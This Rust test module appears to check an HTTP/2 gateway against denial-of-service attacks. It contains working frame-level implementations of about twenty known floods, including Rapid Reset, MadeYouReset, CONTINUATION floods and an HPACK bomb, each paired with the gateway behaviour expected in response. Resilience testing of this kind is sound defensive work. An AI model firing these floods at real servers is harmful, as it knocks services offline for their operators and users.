//! Much of what is allowed, or little of what is not, to wear the gateway out (S52, S53, S54).

use super::case::Given;
use super::frames::{self, END_HEADERS, END_STREAM, Head, data, frame, last_data, literal_as, settings};
use super::peer::Peer;

/// How many streams the floods of resets open.
pub const STREAMS: u32 = 3_000;
/// Where the upstream's answer is longer than any window.
pub const LARGE: &str = "/floods/large";
/// Where the upstream answers nothing until the request is given up.
pub const SLOW: &str = "/floods/slow";

/// A flood, and what it may do.
pub struct Flood {
    /// Its name.
    pub name: &'static str,
    /// What it is known as.
    pub known_as: &'static str,
    /// Must the connection be ended?
    pub ending: Ending,
    /// By how much the gateway may grow, in MiB.
    pub growth_mebibytes: u64,
    /// Lets it loose.
    pub run: fn(&mut Peer, &Given),
}

/// How a flood's connection ends.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Ending {
    /// The gateway ends it.
    Ended,
    /// It may go on: it costs too little.
    Any,
}

/// All of them.
pub const FLOODS: &[Flood] = &[
    flood("rapid-reset", "CVE-2023-44487", Ending::Ended, 16, rapid_reset),
    flood("rapid-reset-of-taken-requests", "CVE-2023-44487", Ending::Ended, 16, paced_reset),
    flood("rapid-reset-between-refusals", "CVE-2023-44487", Ending::Ended, 16, refusals_between),
    flood("made-you-reset-by-window-of-0", "CVE-2025-8671", Ending::Ended, 16, |peer, given| {
        provoke(peer, given, |stream| frames::window_update(stream, 0));
    }),
    flood("made-you-reset-by-overflow", "CVE-2025-8671", Ending::Ended, 16, |peer, given| {
        provoke(peer, given, |stream| frames::window_update(stream, 0x7fff_ffff));
    }),
    flood("made-you-reset-by-data", "CVE-2025-8671", Ending::Ended, 16, |peer, given| {
        provoke(peer, given, |stream| data(stream, b"1"));
    }),
    flood("made-you-reset-by-headers", "CVE-2025-8671", Ending::Ended, 16, |peer, given| {
        provoke(peer, given, |stream| Head::empty().with("x-sum", "1").whole(stream));
    }),
    flood("made-you-reset-by-priority", "CVE-2025-8671", Ending::Ended, 16, |peer, given| {
        provoke(peer, given, |stream| frames::priority(stream, stream));
    }),
    flood("malformed-requests", "CVE-2025-8671", Ending::Ended, 16, malformed),
    flood("continuations", "CVE-2024-27316", Ending::Ended, 16, continuations),
    flood("empty-continuations", "CVE-2024-27316", Ending::Ended, 16, empty_continuations),
    flood("hpack-bomb", "CVE-2016-6581", Ending::Any, 32, hpack_bomb),
    flood("fields-without-names", "CVE-2019-9516", Ending::Ended, 16, nameless),
    flood("pings", "CVE-2019-9512", Ending::Any, 16, |peer, _| {
        many(peer, 20_000, |_| frame(frames::PING, 0, 0, &[0; 8]));
    }),
    flood("settings", "CVE-2019-9515", Ending::Any, 16, |peer, _| {
        many(peer, 20_000, |number| settings(&[(frames::INITIAL_WINDOW_SIZE, 65_535 + number % 2)]));
    }),
    flood("priorities", "CVE-2019-9513", Ending::Any, 16, |peer, _| {
        many(peer, 20_000, |number| frames::priority(2 * number + 1, 2 * (number / 2)));
    }),
    flood("unknown-frames", "RFC 9113 §10.5", Ending::Any, 16, |peer, _| {
        many(peer, 20_000, |number| frame(0xf0, 0, number % 3, &[0; 64]));
    }),
    flood("empty-data", "CVE-2019-9518", Ending::Ended, 16, empty_data),
    flood("window-updates", "RFC 9113 §10.5", Ending::Any, 16, window_updates),
    flood("no-window", "CVE-2019-9517", Ending::Any, 64, no_window),
    flood("window-by-the-byte", "CVE-2019-9511", Ending::Any, 64, dribble),
];

const fn flood(
    name: &'static str,
    known_as: &'static str,
    ending: Ending,
    growth_mebibytes: u64,
    run: fn(&mut Peer, &Given),
) -> Flood {
    Flood { name, known_as, ending, growth_mebibytes, run }
}

/// Stream numbers, for as long as the connection lives.
fn each_stream(peer: &mut Peer, mut turn: impl FnMut(&mut Peer, u32)) {
    for number in 0..STREAMS {
        if peer.end().is_some() {
            return;
        }
        turn(peer, 2 * number + 1);
    }
}

fn rapid_reset(peer: &mut Peer, given: &Given) {
    let head = given.get(SLOW);
    each_stream(peer, |peer, stream| {
        peer.send(&[head.whole(stream), frames::reset(stream, frames::CANCEL)].concat());
        if stream % 32 == 1 {
            peer.read_what_came();
        }
    });
}

/// Sends a request, and gives the gateway time to send it on.
fn send_on(peer: &mut Peer, request: &[u8]) {
    peer.send(request);
    for _ in 0..4 {
        peer.settle();
    }
}

fn paced_reset(peer: &mut Peer, given: &Given) {
    let head = given.get(SLOW);
    each_stream(peer, |peer, stream| {
        send_on(peer, &head.whole(stream));
        peer.send(&frames::reset(stream, frames::CANCEL));
    });
}

/// Answers that cost nothing make nothing good.
fn refusals_between(peer: &mut Peer, given: &Given) {
    let (head, refused) = (given.get(SLOW), given.get("/refused").without("authorization"));
    for number in 0..STREAMS / 2 {
        let stream = 4 * number + 1;
        send_on(peer, &[refused.whole(stream), head.whole(stream + 2)].concat());
        peer.send(&frames::reset(stream + 2, frames::CANCEL));
        if peer.end().is_some() {
            return;
        }
    }
}

/// Each request is on its way upstream before the gateway is made to give it up.
fn provoke(peer: &mut Peer, given: &Given, by: impl Fn(u32) -> Vec<u8>) {
    let head = given.get(SLOW);
    each_stream(peer, |peer, stream| {
        send_on(peer, &head.whole(stream));
        peer.send(&by(stream));
    });
}

fn malformed(peer: &mut Peer, given: &Given) {
    let head = given.get(SLOW).with("connection", "close");
    each_stream(peer, |peer, stream| {
        peer.send(&head.whole(stream));
        if stream % 32 == 1 {
            peer.read_what_came();
        }
    });
}

fn many(peer: &mut Peer, count: u32, one: impl Fn(u32) -> Vec<u8>) {
    const AT_ONCE: u32 = 500;
    for start in (0..count).step_by(AT_ONCE as usize) {
        let bytes: Vec<u8> = (start..start + AT_ONCE).flat_map(&one).collect();
        peer.send(&bytes);
        peer.read_what_came();
        if peer.end().is_some() {
            return;
        }
    }
    peer.settle();
}

/// A block that never ends, of 32 MiB if nobody stops it.
fn continuations(peer: &mut Peer, given: &Given) {
    let field = literal_as(0x00, b"x-a", &[b'a'; 8_000]);
    peer.send(&frame(frames::HEADERS, END_STREAM, 1, &given.get(SLOW).block()));
    many(peer, 2_000, |_| frame(frames::CONTINUATION, 0, 1, &field.repeat(2)));
}

fn empty_continuations(peer: &mut Peer, given: &Given) {
    peer.send(&frame(frames::HEADERS, END_STREAM, 1, &given.get(SLOW).block()));
    many(peer, 20_000, |_| frame(frames::CONTINUATION, 0, 1, &[]));
}

/// 4 KiB in the table, and 16,000 times its index: 64 MiB a block.
fn hpack_bomb(peer: &mut Peer, given: &Given) {
    let entry = literal_as(0x40, b"x-a", &[b'a'; 4_000]);
    for number in 0..20 {
        let stream = 2 * number + 1;
        let first = [given.get(SLOW).block(), entry.clone()].concat();
        peer.send(&frame(frames::HEADERS, END_STREAM, stream, &first));
        peer.send(&frame(frames::CONTINUATION, END_HEADERS, stream, &[0xbe; 16_000]));
        peer.settle();
        if peer.end().is_some() {
            return;
        }
    }
}

fn nameless(peer: &mut Peer, given: &Given) {
    let head = (0..1_000).fold(given.get(SLOW), |head, _| head.with("", ""));
    each_stream(peer, |peer, stream| {
        peer.send(&head.whole(stream));
        peer.read_what_came();
    });
}

fn empty_data(peer: &mut Peer, given: &Given) {
    peer.send(&given.post(SLOW).open(1));
    many(peer, 20_000, |_| data(1, b""));
}

fn window_updates(peer: &mut Peer, given: &Given) {
    peer.send(&given.post(SLOW).open(1));
    many(peer, 20_000, |number| frames::window_update(number % 2, 1));
    peer.send(&last_data(1, b""));
}

/// As many answers as may be asked for, and room for none.
fn no_window(peer: &mut Peer, given: &Given) {
    peer.send(&settings(&[(frames::INITIAL_WINDOW_SIZE, 0)]));
    let head = given.get(LARGE);
    for number in 0..100 {
        peer.send(&head.whole(2 * number + 1));
    }
    for _ in 0..20 {
        peer.settle();
    }
}

fn dribble(peer: &mut Peer, given: &Given) {
    peer.send(&settings(&[(frames::INITIAL_WINDOW_SIZE, 0)]));
    let head = given.get(LARGE);
    for number in 0..20 {
        peer.send(&head.whole(2 * number + 1));
    }
    many(peer, 10_000, |number| frames::window_update(2 * (number % 20) + 1, 1));
}
